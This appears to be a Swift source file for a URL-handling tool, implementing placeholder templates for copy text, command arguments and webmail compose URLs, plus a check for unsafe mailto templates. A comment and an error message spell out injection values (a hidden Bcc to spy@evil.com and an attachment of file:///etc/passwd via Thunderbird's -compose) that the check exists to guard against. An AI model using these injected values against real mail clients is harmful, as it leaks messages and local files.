import URLModel

/// `{url}`-style templates for copy text, argv elements, rewrites and webmail compose URLs.
public enum Template {
    /// Where the expansion goes: into plain text (copy, argv) or into a URL.
    public enum Context: Sendable {
        /// Values are inserted as they are.
        case text
        /// Values are percent-encoded so they cannot change the URL's structure; `{path}`
        /// and `{host}` are inserted as they are (already URL syntax). In the query, a
        /// `name={field}` pair whose field is empty is left out.
        case url
    }

    /// The placeholders a template may use.
    public static let placeholders: [String] = ["url", "scheme", "host", "path", "query", "fragment", "to", "cc", "bcc", "subject", "body"]

    /// The placeholders in `template` that are not known, for config errors.
    public static func unknownPlaceholders(in template: String) -> [String] {
        names(in: template).filter { !placeholders.contains($0) }
    }

    /// The placeholders that take a mailto's fields.
    public static let mailFields: [String] = ["to", "cc", "bcc", "subject", "body"]

    /// Why an argv template is unsafe for mail fields, or nil: a mail field inside a quoted
    /// argument (`to='{to}'`) or beside another in one argument (`to={to},subject={subject}`).
    /// A value from the link can close the quote or hold the separator, and add fields of the
    /// program's own syntax: with Thunderbird's `-compose`, `?subject=x',bcc='spy@evil.com`
    /// adds a hidden Bcc and `?body=x',attachment='file:///etc/passwd` attaches a local file.
    public static func spliceProblem(in template: String) -> String? {
        var quote: Character?
        var fields: [String] = []
        var quoted: String?
        var rest = Substring(template)
        while let next = rest.first {
            if next == "{", let close = rest.firstIndex(of: "}") {
                let name = String(rest[rest.index(after: rest.startIndex)..<close])
                if mailFields.contains(name) {
                    fields.append(name)
                    if quote != nil, quoted == nil { quoted = name }
                }
                rest = rest[rest.index(after: close)...]
                continue
            }
            if next == "'" || next == "\"" { quote = quote == nil ? next : (quote == next ? nil : quote) }
            rest = rest.dropFirst()
        }
        let advice = "a link can end the quote or hold the separator and add fields of the program's own syntax "
            + "(with Thunderbird's -compose, mailto:a@b.com?subject=x',bcc='spy@evil.com adds a hidden Bcc); "
            + "use a built-in mail target (open = \"thunderbird\", openurl apps mailto lists them) or pass {url} as an argument of its own"
        if let quoted { return "{\(quoted)} is inside a quoted argument: " + advice }
        if fields.count > 1 { return "{\(fields[0])} and {\(fields[1])} share one argument: " + advice }
        return nil
    }

    /// Whether `template` uses any known placeholder (`{url}`, `{to}`, ...).
    public static func usesPlaceholder(_ template: String) -> Bool {
        // Asked on every launch of an app: byte slices, no array of names.
        var rest = template.utf8[...]
        while let open = rest.firstIndex(of: UInt8(ascii: "{")), let close = rest[open...].firstIndex(of: UInt8(ascii: "}")) {
            let name = Substring(rest[rest.index(after: open)..<close])
            if placeholders.contains(where: { $0 == name }) { return true }
            rest = rest[rest.index(after: close)...]
        }
        return false
    }

    /// The values of every placeholder for a URL. Recipient lists are joined with ", " for
    /// text and "," for URLs (what webmail compose forms accept).
    public static func fields(for url: ParsedURL, context: Context = .url) -> Fields {
        Fields(url: url, recipientSeparator: context == .text ? ", " : ",")
    }

    /// Placeholder values for one URL, computed when a template asks for them.
    public struct Fields {
        package let url: ParsedURL
        let recipientSeparator: String
        let mailto: MailtoURL?
        /// Fixed values, for checking a template's shape.
        let fixed: String?

        init(url: ParsedURL, recipientSeparator: String) {
            self.url = url
            self.recipientSeparator = recipientSeparator
            self.mailto = url.scheme == "mailto" ? MailtoURL(url) : nil
            self.fixed = nil
        }

        /// Every placeholder gives `value`.
        package init(every value: String) {
            self.url = ParsedURL.placeholder
            self.recipientSeparator = ","
            self.mailto = nil
            self.fixed = value
        }

        /// The value of `name`, or nil for an unknown placeholder.
        subscript(name: String) -> String? {
            if let fixed { return Template.placeholders.contains(name) ? fixed : nil }
            switch name {
            case "url": return url.string
            case "scheme": return url.scheme
            case "host": return url.host
            case "path": return url.path
            case "query": return url.query ?? ""
            case "fragment": return url.fragment ?? ""
            case "to": return mailto?.to.joined(separator: recipientSeparator) ?? ""
            case "cc": return mailto?.cc.joined(separator: recipientSeparator) ?? ""
            case "bcc": return mailto?.bcc.joined(separator: recipientSeparator) ?? ""
            case "subject": return mailto?.subject ?? ""
            case "body": return mailto?.body ?? ""
            default: return nil
            }
        }
    }

    /// Expands `template` with `fields` for `context`.
    public static func expand(_ template: String, fields: Fields, context: Context) -> String {
        guard context == .url, let questionMark = template.firstIndex(of: "?") else {
            return substitute(Substring(template), fields: fields, context: context)
        }
        let head = substitute(template[..<questionMark], fields: fields, context: context)
        let afterQuery = template[template.index(after: questionMark)...]
        let fragmentStart = afterQuery.firstIndex(of: "#")
        let queryTemplate = afterQuery[..<(fragmentStart ?? afterQuery.endIndex)]
        var pairs: [String] = []
        for pair in queryTemplate.split(separator: "&", omittingEmptySubsequences: false) {
            let value = pair.split(separator: "=", maxSplits: 1).dropFirst().first
            if let value, value.hasPrefix("{"), value.hasSuffix("}"),
               let field = fields[String(value.dropFirst().dropLast())], field.isEmpty {
                continue
            }
            pairs.append(substitute(pair, fields: fields, context: context))
        }
        var out = head + (pairs.isEmpty ? "" : "?" + pairs.joined(separator: "&"))
        if let fragmentStart { out += substitute(afterQuery[fragmentStart...], fields: fields, context: context) }
        return out
    }

    private static func substitute(_ template: Substring, fields: Fields, context: Context) -> String {
        // Braces are ASCII, so scanning the UTF-8 bytes finds them without walking Characters;
        // the output is built as bytes (appending Substrings to a String showed in profiles).
        var template = template
        return template.withUTF8 { bytes -> String in
            guard bytes.contains(UInt8(ascii: "{")) else { return String(decoding: bytes, as: UTF8.self) }
            var out: [UInt8] = []
            out.reserveCapacity(bytes.count + 64)
            var rest = 0
            while let open = bytes[rest...].firstIndex(of: UInt8(ascii: "{")) {
                out.append(contentsOf: UnsafeBufferPointer(rebasing: bytes[rest..<open]))
                guard let close = bytes[open...].firstIndex(of: UInt8(ascii: "}")) else {
                    rest = open
                    break
                }
                let name = String(decoding: UnsafeBufferPointer(rebasing: bytes[(open + 1)..<close]), as: UTF8.self)
                if let value = fields[name] {
                    var inserted = context == .url && name != "path" && name != "host" && name != "scheme"
                        ? PercentEncoding.encode(value) : value
                    inserted.withUTF8 { out.append(contentsOf: $0) }
                } else {
                    out.append(contentsOf: UnsafeBufferPointer(rebasing: bytes[open...close]))
                }
                rest = close + 1
            }
            out.append(contentsOf: UnsafeBufferPointer(rebasing: bytes[rest...]))
            return String(decoding: out, as: UTF8.self)
        }
    }

    private static func names(in template: String) -> [String] {
        var names: [String] = []
        var rest = Substring(template)
        while let open = rest.firstIndex(of: "{"), let close = rest[open...].firstIndex(of: "}") {
            names.append(String(rest[rest.index(after: open)..<close]))
            rest = rest[rest.index(after: close)...]
        }
        return names
    }
}

/// Built-in webmail compose targets.
public enum Webmail {
    /// Compose URL templates by name; each yields an https URL routed again through the rules.
    public static let builtIn: [String: String] = [
        "gmail": "https://mail.google.com/mail/?view=cm&fs=1&to={to}&cc={cc}&bcc={bcc}&su={subject}&body={body}",
        "outlook": "https://outlook.live.com/mail/0/deeplink/compose?to={to}&cc={cc}&bcc={bcc}&subject={subject}&body={body}",
        "office365": "https://outlook.office.com/mail/deeplink/compose?to={to}&cc={cc}&bcc={bcc}&subject={subject}&body={body}",
        "fastmail": "https://app.fastmail.com/mail/compose?to={to}&cc={cc}&bcc={bcc}&subject={subject}&body={body}",
        "proton": "https://mail.proton.me/u/0/inbox#mailto={url}",
        "yahoo": "https://compose.mail.yahoo.com/?to={to}&cc={cc}&bcc={bcc}&subject={subject}&body={body}",
    ]
}
